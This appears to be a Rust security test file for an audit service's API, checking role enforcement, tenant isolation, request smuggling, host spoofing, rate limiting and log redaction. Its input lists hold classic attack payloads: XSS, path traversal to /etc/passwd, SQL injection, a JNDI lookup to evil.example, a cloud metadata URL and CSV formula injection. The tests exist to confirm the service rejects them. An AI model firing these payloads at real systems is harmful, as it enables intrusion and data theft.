//! Attacks on the service, as `docs/security.md` lists them.

#![allow(
    clippy::too_many_lines,
    clippy::format_collect,
    reason = "a story is told in one piece, and few texts are put together"
)]

use crate::endpoint::Endpoint;
use crate::postgres::Postgres;
use crate::provider::{Browser, Provider};
use crate::server::{Answer, PATIENCE, Place, Server, audit, small};
use hyper::Method;
use serde_json::{Value, json};
use std::path::Path;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// A service behind a proxy, so that each request can come from a client of its own.
const PROXIED: &str = "  bank: {regions: [eu-west-1]}\nlogin: {tokens: true}\nbehind_proxy: true\n\
                       url: https://audits.example.com\n";
const HOST: (&str, &str) = ("host", "audits.example.com");

async fn token(place: &Place, endpoint: &Endpoint, role: &str, more: &[&str]) -> String {
    let words = ["serve", "token", "--name", role, "--role", role];
    let words: Vec<&str> = words.iter().chain(more).copied().collect();
    let (code, text) = place.run(endpoint, &words).await;
    assert_eq!(code, Some(0), "{text}");
    text.trim().to_owned()
}

/// One operation of the API's description.
struct Operation {
    method: Method,
    path: String,
    description: Value,
}

impl Operation {
    /// The least role that may do it; none where anybody may.
    fn role(&self) -> Option<String> {
        let ways = self.description["security"].as_array().unwrap();
        let names: Vec<&Value> = ways
            .iter()
            .flat_map(|way| way.as_object().unwrap().values())
            .collect();
        names
            .first()
            .map(|role| role[0].as_str().unwrap().to_owned())
    }

    /// Its address with a value for each parameter of the path.
    fn filled(&self, value: &str) -> String {
        let mut path = String::new();
        let mut rest = self.path.as_str();
        while let Some((before, after)) = rest.split_once('{') {
            path.push_str(before);
            path.push_str(value);
            rest = after.split_once('}').unwrap().1;
        }
        path + rest
    }

    fn parameters(&self, place: &str) -> Vec<String> {
        let all = self.description["parameters"].as_array();
        let all = all.into_iter().flatten().filter(|p| p["in"] == place);
        all.map(|p| p["name"].as_str().unwrap().to_owned())
            .collect()
    }
}

fn operations(description: &Value) -> Vec<Operation> {
    let mut operations = Vec::new();
    for (path, item) in description["paths"].as_object().unwrap() {
        for (method, description) in item.as_object().unwrap() {
            operations.push(Operation {
                method: method.to_uppercase().parse().unwrap(),
                path: path.clone(),
                description: description.clone(),
            });
        }
    }
    operations
}

const ROLES: [&str; 4] = ["viewer", "operator", "approver", "admin"];

fn rank(role: &str) -> usize {
    ROLES.iter().position(|known| *known == role).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_operation_refuses_whoever_has_no_token_or_a_lesser_role() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new(PROXIED);
    let mut tokens = Vec::new();
    for role in ROLES {
        tokens.push((role, token(&place, &endpoint, role, &[]).await));
    }
    let mut server = place.serve(&endpoint).await;
    server.token = Some(tokens[3].1.clone());
    let description = server
        .ask(Method::GET, "/api/openapi.json", &[HOST], None)
        .await;
    let operations = operations(&description.with(200).json());
    assert!(operations.len() > 30, "{}", operations.len());
    let mut client = 0_u32;
    for operation in &operations {
        let (method, path) = (&operation.method, operation.filled("x"));
        let mut ask = async |token: Option<&str>, method: &Method| {
            client += 1;
            let from = format!("10.1.{}.{}", client / 250, client % 250);
            server.token = token.map(ToOwned::to_owned);
            let headers = [HOST, ("x-forwarded-for", from.as_str())];
            let body = [Method::POST, Method::PUT]
                .contains(method)
                .then(|| json!({}));
            server
                .ask(method.clone(), &path, &headers, body.as_ref())
                .await
        };
        let Some(least) = operation.role() else {
            let status = ask(None, method).await.status.as_u16();
            assert!(![401, 403].contains(&status), "{method} {path}: {status}");
            continue;
        };
        for wrong in [None, Some("sixpillars_x"), Some("x"), Some("")] {
            ask(wrong, method).await.with(401);
        }
        if *method == Method::GET {
            assert!(ask(None, &Method::HEAD).await.with(401).body.is_empty());
        }
        for (role, token) in &tokens {
            let status = ask(Some(token), method).await.status.as_u16();
            let what = format!("{method} {path} by {role}, least {least}: {status}");
            if rank(role) < rank(&least) {
                assert_eq!(status, 403, "{what}");
            } else {
                assert!(![401, 403, 405, 500, 503].contains(&status), "{what}");
            }
        }
    }
    // Neither another method nor another way to write an address is a way around.
    server.token = Some(tokens[0].1.clone());
    for (name, value) in [
        ("x-http-method-override", "DELETE"),
        ("x-original-url", "/api/v1/audit-log"),
        ("x-rewrite-url", "/api/v1/audit-log"),
        ("x-forwarded-prefix", "/api/v1/audit-log"),
    ] {
        let me = server
            .ask(Method::GET, "/api/v1/me", &[HOST, (name, value)], None)
            .await;
        assert_eq!(me.with(200).json()["role"], "viewer");
    }
    for path in [
        "/api/v1/audit-log/",
        "//api/v1/audit-log",
        "/api/v1//audit-log",
        "/API/v1/audit-log",
        "/api/v1/%61udit-log",
        "/api/v1/me/../audit-log",
        "/api/v1/me/%2e%2e/audit-log",
        "/api/v1/audit-log;x=y",
        "/api/v1/audit-log%3f",
        "/api/v1/audit-log%20",
    ] {
        server.ask(Method::GET, path, &[HOST], None).await.with(404);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_for_one_target_learns_nothing_of_another() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new("  bank: {regions: [eu-west-1]}\nlogin: {tokens: true}\n");
    let all = token(&place, &endpoint, "admin", &[]).await;
    let some = token(&place, &endpoint, "admin", &["--target", "bank"]).await;
    let mut server = place.serve(&endpoint).await;
    server.token = Some(all.clone());
    let id = server.start(&audit()).await;
    assert_eq!(server.over(&id).await["state"], "finished");
    let again = server.start(&audit()).await;
    server.over(&again).await;
    let failing = server
        .get("/api/v1/findings?verdict=fail&limit=1")
        .await
        .with(200)
        .json();
    let (finding, cursor) = (
        &failing["items"][0]["id"],
        failing["next"].as_str().unwrap(),
    );
    let ask = json!({"target": "shop", "finding": finding, "reason": "r", "owner": "o",
        "expires": "2999-12-31"});
    let exemption = server
        .post("/api/v1/exemptions", &ask)
        .await
        .with(201)
        .json();
    let exemption = exemption["id"].as_str().unwrap();
    let milestone = json!({"name": "kept", "audit": id});
    server
        .post("/api/v1/milestones", &milestone)
        .await
        .with(201);
    let attest = json!({"target": "shop", "practice": "OPS01-BP01", "status": "met", "owner": "o",
        "expires": "2999-12-31"});
    let attested = server
        .post("/api/v1/attestations", &attest)
        .await
        .with(201)
        .json();
    let attested = attested["id"].as_str().unwrap();
    let spec = json!({"name": "shops", "spec": {"cron": "0 5 * * 1", "targets": ["shop"]}});
    server.post("/api/v1/schedules", &spec).await.with(201);
    let tokens = server.get("/api/v1/tokens").await.json();
    let other = tokens["items"][0]["id"].as_str().unwrap().to_owned();

    server.token = Some(some);
    let finding = finding.as_str().unwrap();
    for path in [
        format!("/api/v1/audits/{id}"),
        format!("/api/v1/audits/{id}/events"),
        format!("/api/v1/audits/{id}/report"),
        format!("/api/v1/audits/{id}/report?format=html"),
        format!("/api/v1/audits/{again}/diff?with={id}"),
        format!("/api/v1/findings/shop/{finding}"),
        "/api/v1/findings?target=shop".to_owned(),
        "/api/v1/audits?target=shop".to_owned(),
        "/api/v1/targets/shop/trend".to_owned(),
        "/api/v1/schedules/shops".to_owned(),
    ] {
        server.get(&path).await.with(404);
    }
    server.get("/api/v1/audit-log").await.with(403);
    server.get("/api/v1/tokens").await.with(403);
    let path = format!("/api/v1/tokens/{other}");
    server.ask(Method::DELETE, &path, &[], None).await.with(403);
    for path in [
        "/api/v1/targets".to_owned(),
        "/api/v1/audits".to_owned(),
        "/api/v1/findings".to_owned(),
        format!("/api/v1/findings?verdict=fail&limit=1&cursor={cursor}"),
        "/api/v1/milestones".to_owned(),
        "/api/v1/exemptions".to_owned(),
        "/api/v1/attestations".to_owned(),
        "/api/v1/schedules".to_owned(),
        "/metrics".to_owned(),
    ] {
        let text = String::from_utf8(server.get(&path).await.with(200).body).unwrap();
        for of_shop in ["shop", id.as_str(), finding, exemption, attested] {
            assert!(!text.contains(of_shop), "{path} tells of {of_shop}: {text}");
        }
    }
    let cancel = format!("/api/v1/audits/{id}/cancel");
    let decide = format!("/api/v1/exemptions/{exemption}/decision");
    for (path, body, status) in [
        ("/api/v1/audits", json!({"target": "shop"}), 422),
        (cancel.as_str(), json!({}), 404),
        (decide.as_str(), json!({"decision": "approve"}), 404),
        ("/api/v1/exemptions", ask, 422),
        (
            "/api/v1/milestones",
            json!({"name": "mine", "audit": id}),
            404,
        ),
        ("/api/v1/attestations", attest, 422),
        (
            "/api/v1/schedules",
            json!({"name": "mine", "spec": spec["spec"]}),
            422,
        ),
    ] {
        let answer = server.post(path, &body).await;
        assert_eq!(answer.status.as_u16(), status, "{path}: {}", answer.json());
    }
    let spec = json!({"spec": {"cron": "0 5 * * 1", "targets": ["bank"]}});
    let shops = "/api/v1/schedules/shops";
    server
        .ask(Method::PUT, shops, &[], Some(&spec))
        .await
        .with(404);
    server.ask(Method::DELETE, shops, &[], None).await.with(404);
    let path = format!("/api/v1/attestations/{attested}");
    server.ask(Method::DELETE, &path, &[], None).await.with(404);
    // Nothing of all that happened.
    server.token = Some(all);
    let log = server.get("/api/v1/audit-log").await.json();
    assert_eq!(log["items"][0]["action"], "schedule.add");
}

/// Texts that others have been broken with. Those of the first list are shown to nobody.
const UNSHOWN: [&str; 9] = [
    "nul\0byte",
    "line\r\nX-Evil: 1\r\n\r\n<html>",
    "ansi\u{1b}[2J\u{1b}]0;owned\u{7}",
    "bidi\u{202e}cod.exe",
    "isolate\u{2066}x",
    "zero\u{200b}width",
    "\u{feff}mark",
    "c1\u{9b}31m",
    "tag\u{e0041}",
];
const HOSTILE: [&str; 16] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "' OR '1'='1' --",
    "\"; DROP TABLE runs; --",
    "%s%n%x{0}${x}#{x}{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "=cmd|' /C calc'!A0",
    "\u{1d4b3}\u{301}\u{10ffff}",
    "-1",
    "",
];

/// A body for an operation, of what its schema says, and the places of its texts.
fn example(schema: &Value, all: &Value, at: &str, texts: &mut Vec<String>) -> Value {
    if let Some(reference) = schema["$ref"].as_str() {
        return example(all.pointer(&reference[1..]).unwrap(), all, at, texts);
    }
    for several in ["oneOf", "anyOf", "allOf"] {
        if let Some(schemas) = schema[several].as_array() {
            let real = schemas.iter().find(|schema| schema["type"] != "null");
            return example(real.unwrap(), all, at, texts);
        }
    }
    let kind = match &schema["type"] {
        Value::Array(kinds) => kinds.iter().find(|kind| **kind != "null").unwrap(),
        kind => kind,
    };
    match kind.as_str() {
        Some("object") => {
            let fields = schema["properties"].as_object();
            let fields = fields.into_iter().flatten().map(|(name, schema)| {
                let value = example(schema, all, &format!("{at}/{name}"), texts);
                (name.clone(), value)
            });
            Value::Object(fields.collect())
        }
        Some("array") => json!([example(&schema["items"], all, &format!("{at}/0"), texts)]),
        Some("boolean") => json!(true),
        Some("integer" | "number") => json!(1),
        _ => {
            texts.push(at.to_owned());
            let one = schema["enum"].as_array().and_then(|values| values.first());
            one.cloned().unwrap_or_else(|| json!("x"))
        }
    }
}

#[track_caller]
fn harmless(answer: &Answer, what: &str) {
    let (status, text) = (
        answer.status.as_u16(),
        String::from_utf8_lossy(&answer.body),
    );
    assert!(status < 500 && status != 429, "{what}: {status} {text}");
    assert!(!answer.headers.contains_key("x-evil"), "{what}");
    let kind = answer
        .headers
        .get("content-type")
        .map(|kind| kind.to_str().unwrap());
    assert!(
        !kind.is_some_and(|kind| kind.contains("html")),
        "{what}: {kind:?}"
    );
    assert_eq!(
        answer.headers["x-content-type-options"], "nosniff",
        "{what}"
    );
    assert!(!text.contains("root:x:0"), "{what}: {text}");
    let unshown = |c: char| c.is_control() && c != '\n' || ('\u{202a}'..='\u{202e}').contains(&c);
    assert!(!text.chars().any(unshown), "{what}: {text:?}");
}

async fn hostile_names(more: &str) {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new(&format!("{PROXIED}{more}"));
    let admin = token(&place, &endpoint, "admin", &[]).await;
    let mut server = place.serve(&endpoint).await;
    server.token = Some(admin);
    let description = server
        .ask(Method::GET, "/api/openapi.json", &[HOST], None)
        .await;
    let description = description.with(200).json();
    let mut client = 0_u32;
    let mut from = || {
        client += 1;
        format!("10.2.{}.{}", client / 250, client % 250)
    };
    let all: Vec<&str> = UNSHOWN.iter().chain(&HOSTILE).copied().collect();
    let mut fields = 0;
    for operation in operations(&description) {
        let method = &operation.method;
        let schema = &operation.description["requestBody"]["content"]["application/json"]["schema"];
        let mut places = Vec::new();
        let body = (!schema.is_null()).then(|| example(schema, &description, "", &mut places));
        for text in &all {
            for place in &places {
                let mut body = body.clone().unwrap();
                *body.pointer_mut(place).unwrap() = json!(text);
                let (path, client) = (operation.filled("x"), from());
                let headers = [HOST, ("x-forwarded-for", client.as_str())];
                let answer = server
                    .ask(method.clone(), &path, &headers, Some(&body))
                    .await;
                let what = format!("{method} {path} with {text:?} at {place}");
                harmless(&answer, &what);
                if UNSHOWN.contains(text) {
                    assert_eq!(answer.status, 422, "{what}: {}", answer.json());
                }
                fields += 1;
            }
            let encoded: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
            let mut paths: Vec<String> = operation
                .parameters("query")
                .iter()
                .map(|name| format!("{}?{name}={encoded}", operation.filled("x")))
                .collect();
            if operation.path.contains('{') {
                paths.push(operation.filled(&encoded));
                paths.push(operation.filled(&"a".repeat(3000)));
            }
            for path in paths {
                let client = from();
                let headers = [HOST, ("x-forwarded-for", client.as_str())];
                let body = body.as_ref();
                let answer = server.ask(method.clone(), &path, &headers, body).await;
                let what = format!("{method} {path} for {text:?}");
                harmless(&answer, &what);
                if UNSHOWN.contains(text) && path.contains(&encoded) {
                    assert_eq!(answer.status, 400, "{what}");
                }
                fields += 1;
            }
        }
    }
    assert!(fields > 800, "{fields}");
    // A header's value is no other header.
    let key = [HOST, ("idempotency-key", "x' OR 1=1 --")];
    let answer = server
        .ask(Method::POST, "/api/v1/audits", &key, Some(&audit()))
        .await;
    harmless(&answer, "a hostile key");
    // The service still stands, and everything that was made can be read.
    for path in [
        "/readyz",
        "/api/v1/audits",
        "/api/v1/schedules",
        "/api/v1/audit-log",
        "/metrics",
    ] {
        let answer = server.ask(Method::GET, path, &[HOST], None).await;
        harmless(&answer, path);
        answer.with(200);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_in_every_field_break_nothing() {
    hostile_names("").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_in_every_field_break_nothing_on_postgresql() {
    if let Some(postgres) = Postgres::start() {
        hostile_names(&format!("database: {}\n", postgres.url())).await;
    }
}

/// Sends bytes, and gives what comes back until the server closes the connection.
async fn raw(server: &Server, bytes: &[u8]) -> String {
    let authority = server.address.strip_prefix("http://").unwrap();
    let mut stream = TcpStream::connect(authority).await.unwrap();
    // The server may have answered and closed before it has read all.
    let _ = stream.write_all(bytes).await;
    let mut answer = Vec::new();
    let read = tokio::time::timeout(PATIENCE, stream.read_to_end(&mut answer)).await;
    let _ = read.expect("it ends in time");
    String::from_utf8_lossy(&answer).into_owned()
}

fn status(answer: &str) -> u16 {
    let status = answer.split(' ').nth(1).and_then(|code| code.parse().ok());
    status.unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_and_malformed_bodies_are_refused() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new("");
    let server = place.serve(&endpoint).await;
    let host = server.address.strip_prefix("http://").unwrap().to_owned();
    let post = async |headers: &str, body: &[u8]| {
        let head = format!(
            "POST /api/v1/audits HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{headers}\
             Content-Length: {}\r\n\r\n",
            body.len()
        );
        status(&raw(&server, &[head.as_bytes(), body].concat()).await)
    };
    let json = "Content-Type: application/json\r\n";
    let deep = "[".repeat(60_000);
    let nested = format!(
        "{{\"target\":{}1{}}}",
        "[".repeat(20_000),
        "]".repeat(20_000)
    );
    for bad in [
        "",
        "{",
        "[]",
        "null",
        "1",
        "\"shop\"",
        "{\"target\":\"shop\",\"target\":\"shop\"}",
        "{\"target\":\"\\ud800\"}",
        "{\"target\":\"shop\",\"allow_paid_usd\":NaN}",
        "{\"target\":\"shop\",\"allow_paid_usd\":1e999}",
        "{\"target\":\"shop\",\"allow_paid_usd\":-0.01}",
        "{\"target\":\"shop\",\"deadline\":\"99999999999999999999h\"}",
        "{\"target\":\"shop\",\"scope\":{\"services\":{}}}",
        "{\"target\":\"shop\",\"endpoint\":\"http://evil.example\"}",
        "{\"target\":\"shop\"}{\"target\":\"shop\"}",
        "{\"target\":\"shop\"} x",
        "{\"target\":[\"shop\"]}",
        "{\"__proto__\":{\"role\":\"admin\"},\"target\":\"shop\"}",
        deep.as_str(),
        nested.as_str(),
    ] {
        let status = post(json, bad.as_bytes()).await;
        let start: String = bad.chars().take(60).collect();
        assert!([400, 422].contains(&status), "{start}: {status}");
    }
    assert_eq!(post(json, b"{\"target\":\"\xff\xfe\"}").await, 400);
    let gzip = format!("{json}Content-Encoding: gzip\r\n");
    assert_eq!(post(&gzip, b"\x1f\x8b\x08\0\0\0\0\0").await, 400);
    let good = b"{\"target\":\"shop\"}";
    for kind in [
        "",
        "Content-Type: text/plain\r\n",
        "Content-Type: application/x-www-form-urlencoded\r\n",
        "Content-Type: multipart/form-data; boundary=x\r\n",
        "Content-Type: application/jsonx\r\n",
    ] {
        assert_eq!(post(kind, good).await, 415, "{kind}");
    }
    // A megabyte: announced, in chunks, and only announced.
    let large = format!("{{\"target\":\"{}\"}}", "x".repeat(1 << 20));
    assert_eq!(post(json, large.as_bytes()).await, 413);
    let chunked = format!(
        "POST /api/v1/audits HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{json}\
         Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{large}\r\n0\r\n\r\n",
        large.len()
    );
    let answer = raw(&server, chunked.as_bytes()).await;
    assert!([413, 0].contains(&status(&answer)), "{answer}");
    let announced = format!(
        "POST /api/v1/audits HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{json}\
         Content-Length: 99999999999\r\n\r\n"
    );
    assert_eq!(status(&raw(&server, announced.as_bytes()).await), 413);
    assert_eq!(
        server.get("/api/v1/audits").await.json()["items"],
        json!([])
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn requests_that_are_forged_by_hand_are_refused() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new("");
    let server = place.serve(&endpoint).await;
    let host = server.address.strip_prefix("http://").unwrap().to_owned();
    let port = host.split(':').nth(1).unwrap();
    let get = async |line: &str, headers: &str| {
        let text = format!("{line}\r\n{headers}Connection: close\r\n\r\n");
        status(&raw(&server, text.as_bytes()).await)
    };
    let me = "GET /api/v1/me HTTP/1.1";
    // The hosts that it is, and those that somebody points at it.
    for own in [
        host.clone(),
        format!("localhost:{port}"),
        format!("LOCALHOST:{port}"),
    ] {
        assert_eq!(get(me, &format!("Host: {own}\r\n")).await, 200, "{own}");
    }
    for foreign in [
        "evil.example".to_owned(),
        format!("evil.example:{port}"),
        format!("127.0.0.1.evil.example:{port}"),
        format!("localhost.evil.example:{port}"),
        format!("{host}.evil.example"),
        format!("localhost.:{port}"),
        format!("127.1:{port}"),
        format!("0.0.0.0:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("2130706433:{port}"),
        "127.0.0.1".to_owned(),
        "localhost:1".to_owned(),
        String::new(),
    ] {
        let status = get(me, &format!("Host: {foreign}\r\n")).await;
        assert!([400, 421].contains(&status), "{foreign}: {status}");
        let forwarded = format!(
            "Host: {foreign}\r\nX-Forwarded-Host: {host}\r\nForwarded: host={host}\r\n\
             X-Forwarded-For: 127.0.0.1\r\n"
        );
        let status = get(me, &forwarded).await;
        assert!([400, 421].contains(&status), "{foreign}: {status}");
    }
    for userinfo in [
        format!("{host}@evil.example"),
        format!("evil.example@{host}"),
    ] {
        let status = get(me, &format!("Host: {userinfo}\r\n")).await;
        assert!([400, 421].contains(&status), "{userinfo}: {status}");
    }
    let own = format!("Host: {host}\r\n");
    let twice = format!("{own}Host: evil.example\r\n");
    let line = "GET http://evil.example/api/v1/me HTTP/1.1";
    for (line, headers) in [
        (me, twice.as_str()),
        (me, ""),
        ("GET /api/v1/me HTTP/1.0", ""),
        (line, own.as_str()),
    ] {
        let status = get(line, headers).await;
        assert!([400, 421].contains(&status), "{line} {headers}: {status}");
    }
    // Lines, bytes and lengths that servers disagree about.
    let smuggle = format!("{own}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n");
    let lengths = format!("{own}Content-Length: 4\r\nContent-Length: 5\r\n");
    let folded = format!("{own}X-A: b\r\n c: d\r\n");
    let null = format!("{own}X-A: b\0c\r\n");
    let space = format!("{own}X-A : b\r\n");
    for (line, headers) in [
        ("POST /api/v1/audits HTTP/1.1", smuggle.as_str()),
        ("POST /api/v1/audits HTTP/1.1", lengths.as_str()),
        (me, folded.as_str()),
        (me, null.as_str()),
        (me, space.as_str()),
        ("GET /api/v1/me x HTTP/1.1", own.as_str()),
        ("GET /api/v1/\u{7f} HTTP/1.1", own.as_str()),
        ("GET /api/v1/me HTTP/9.9", own.as_str()),
        ("G\0T /api/v1/me HTTP/1.1", own.as_str()),
    ] {
        let status = get(line, headers).await;
        assert!(
            [0, 400, 415].contains(&status),
            "{line} {headers:?}: {status}"
        );
    }
    for method in ["TRACE", "CONNECT", "PATCH", "PROPFIND", "X"] {
        let status = get(&format!("{method} /api/v1/me HTTP/1.1"), &own).await;
        assert!([400, 403, 404, 405].contains(&status), "{method}: {status}");
    }
    // Too long, too many.
    let long = format!("GET /api/v1/me?x={} HTTP/1.1", "a".repeat(9000));
    assert_eq!(get(&long, &own).await, 414);
    let large = format!("{own}X-Long: {}\r\n", "a".repeat(20_000));
    assert_eq!(get(me, &large).await, 431);
    let many: String = (0..200).map(|n| format!("X-{n}: x\r\n")).collect();
    assert_eq!(get(me, &format!("{own}{many}")).await, 431);
    let huge = format!("{own}X-Long: {}\r\n", "a".repeat(1 << 20));
    assert!([0, 431].contains(&get(me, &huge).await));
    server.get("/api/v1/me").await.with(200);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_that_sends_its_headers_slowly_is_dropped() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new("");
    let server = place.serve(&endpoint).await;
    let begun = std::time::Instant::now();
    let answer = raw(&server, b"GET /api/v1/me HTTP/1.1\r\nHost: x").await;
    assert!([0, 408].contains(&status(&answer)), "{answer}");
    assert!(begun.elapsed() < PATIENCE / 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn cursors_that_are_changed_give_nothing_more() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new(PROXIED);
    let admin = token(&place, &endpoint, "admin", &[]).await;
    let mut server = place.serve(&endpoint).await;
    server.token = Some(admin);
    let mut client = 0_u32;
    let mut get = async |path: &str| {
        client += 1;
        let from = format!("10.3.{}.{}", client / 250, client % 250);
        server
            .ask(Method::GET, path, &[HOST, ("x-forwarded-for", &from)], None)
            .await
    };
    for name in ["a", "b", "c"] {
        let spec = json!({"name": name, "spec": {"cron": "0 5 * * 1"}});
        let answer = server
            .ask(Method::POST, "/api/v1/schedules", &[HOST], Some(&spec))
            .await;
        answer.with(201);
    }
    let log = "/api/v1/audit-log?limit=1";
    let cursor = get(log).await.with(200).json()["next"]
        .as_str()
        .unwrap()
        .to_owned();
    let lists = ["/api/v1/audit-log", "/api/v1/audits", "/api/v1/findings"];
    let mut tried: Vec<String> = (0..cursor.len())
        .flat_map(|at| {
            ["A", "_", "%00", ""]
                .map(|other| format!("{}{other}{}", &cursor[..at], &cursor[at + 1..]))
        })
        .collect();
    // `"x"`, `[]`, `{}`, `[1,2]`, a text with NUL, and one that is SQL.
    for place in [
        "Ing",
        "W10",
        "e30",
        "WzEsMl0",
        "IlwwMDAwIg",
        "IicgT1IgMT0xIC0tIg",
        "====",
        "%ff",
    ] {
        tried.push(place.to_owned());
    }
    tried.push("A".repeat(4000));
    for cursor in tried {
        for list in lists {
            let answer = get(&format!("{list}?cursor={cursor}")).await;
            harmless(&answer, &cursor);
            assert!(
                [200, 400].contains(&answer.status.as_u16()),
                "{list} {cursor}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn guessing_and_flooding_are_slowed_down() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new(PROXIED);
    let admin = token(&place, &endpoint, "admin", &[]).await;
    let mut server = place.serve(&endpoint).await;
    server.token = Some("sixpillars_guess".to_owned());
    let from = |client: &'static str| [HOST, ("x-forwarded-for", client)];
    let me = async |server: &Server, headers: &[(&str, &str)]| {
        server.ask(Method::GET, "/api/v1/me", headers, None).await
    };
    let mut refused = 0;
    for _ in 0..40 {
        let answer = me(&server, &from("10.4.0.1")).await;
        match answer.status.as_u16() {
            401 => refused += 1,
            429 => assert_eq!(answer.headers["retry-after"], "5"),
            other => panic!("{other}"),
        }
    }
    assert!((20..40).contains(&refused), "{refused}");
    // A client cannot make itself another one: what it says of itself stands before what the proxy adds.
    let forged = [HOST, ("x-forwarded-for", "10.4.0.2, 10.4.0.1")];
    me(&server, &forged).await.with(429);
    me(&server, &from("10.4.0.3")).await.with(401);
    server.token = Some(admin);
    me(&server, &from("10.4.0.4")).await.with(200);
    // Any client has its limit, and no other one's.
    let mut limited = 0;
    for _ in 0..2000 {
        let answer = me(&server, &from("10.4.0.5")).await;
        limited += usize::from(answer.status == 429);
        if limited > 0 {
            break;
        }
    }
    assert_eq!(limited, 1);
    me(&server, &from("10.4.0.6")).await.with(200);
    // A token in an address is refused, wherever it stands and however it is written.
    for path in [
        "/api/v1/me?token=x",
        "/api/v1/me?a=b&access_token=x",
        "/api/v1/me?%74oken=x",
        "/api/v1/me?TOKEN=x",
        "/login?to=/&id_token=x",
        "/healthz?api_key=x",
    ] {
        server
            .ask(Method::GET, path, &from("10.4.0.7"), None)
            .await
            .with(400);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_request_names_a_role_an_address_or_a_path() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new("");
    let server = place.serve(&endpoint).await;
    let description = server.get("/api/openapi.json").await.with(200).json();
    let mut places = Vec::new();
    for operation in operations(&description) {
        let body = &operation.description["requestBody"]["content"]["application/json"]["schema"];
        if !body.is_null() {
            example(body, &description, &operation.path, &mut places);
        }
        for name in operation.parameters("query") {
            places.push(format!("{}/{name}", operation.path));
        }
    }
    assert!(places.len() > 20, "{places:?}");
    let forbidden = [
        "role",
        "role_arn",
        "arn",
        "external_id",
        "profile",
        "endpoint",
        "url",
        "address",
        "host",
        "path",
        "file",
        "folder",
        "command",
        "policy",
        "checks_dir",
        "webhook",
        "slack",
        "database",
        "store",
        "secret",
    ];
    for place in places {
        let name = place
            .split('/')
            .rfind(|name| name.parse::<usize>().is_err())
            .unwrap();
        assert!(!forbidden.contains(&name), "{place}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_log_holds_no_secrets() {
    let Some(provider) = Provider::start(true).await else {
        return;
    };
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new("");
    let hook = "notify:\n  hook:\n    webhook: {url: \"https://127.0.0.1:1/hidden-path\", secret: \
                hidden-secret}\n    allow_private: true\n";
    place.configure(&provider.configuration(place.folder.path(), hook));
    let token = token(&place, &endpoint, "admin", &[]).await;
    let log = place.folder.path().join("log");
    let mut server = place.serve_logged(&endpoint, &log).await;
    let mut browser = Browser::new();
    let address = browser.begin(&server, "/").await;
    let back = browser.pass(&server, &address, "admin").await;
    browser.get(&back).await.with(303);
    let me = browser.me(&server).await.with(200).json();
    let mut secrets = vec![
        token.clone(),
        "hidden-path".to_owned(),
        "hidden-secret".to_owned(),
    ];
    secrets.push("a-secret-of-the-tests".to_owned());
    secrets.push(me["csrf"].as_str().unwrap().to_owned());
    secrets.extend(browser.of(&server.address).values().cloned());
    for pair in back.split_once('?').unwrap().1.split('&') {
        if let Some(secret) = pair.strip_prefix("code=").or(pair.strip_prefix("state=")) {
            secrets.push(secret.to_owned());
        }
    }
    assert!(secrets.len() >= 9, "{secrets:?}");
    // Refused ones too, and what fails.
    browser.get(&back).await.with(400);
    Browser::new()
        .log_in(&server, "wrong-nonce")
        .await
        .with(403);
    server.token = Some("sixpillars_refused-token".to_owned());
    secrets.push("refused-token".to_owned());
    server.get("/api/v1/me").await.with(401);
    server.token = Some(token);
    server
        .get("/api/v1/me?token=hidden-in-address")
        .await
        .with(400);
    secrets.push("hidden-in-address".to_owned());
    let id = server.start(&audit()).await;
    server.over(&id).await;
    server.signal("TERM");
    assert_eq!(server.end().await, Some(0));
    let log = std::fs::read_to_string(&log).unwrap();
    assert!(log.contains("a token was refused"), "{log}");
    for secret in secrets {
        assert!(!log.contains(&secret), "{secret} in {log}");
    }
}

/// What `docs/security.md` says was tried is what these tests try.
#[test]
fn the_page_on_security_lists_these_tests() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let page = std::fs::read_to_string(root.join("docs/security.md")).unwrap();
    let (_, tried) = page.split_once("## What was tried").unwrap();
    let tried = tried.split("\n## ").next().unwrap();
    let listed: Vec<&str> = tried.split('`').skip(1).step_by(2).collect();
    let mut tests = Vec::new();
    for file in ["attacks.rs", "guard.rs", "login.rs"] {
        let text = std::fs::read_to_string(root.join("tests/serve").join(file)).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        for pair in lines
            .windows(2)
            .filter(|pair| pair[0].starts_with("#[tokio::test"))
        {
            let name = pair[1]
                .trim_start_matches("async fn ")
                .split('(')
                .next()
                .unwrap();
            tests.push(name.to_owned());
        }
    }
    for test in &tests {
        assert!(
            listed.contains(&test.as_str()),
            "docs/security.md does not list {test}"
        );
    }
    for name in listed
        .iter()
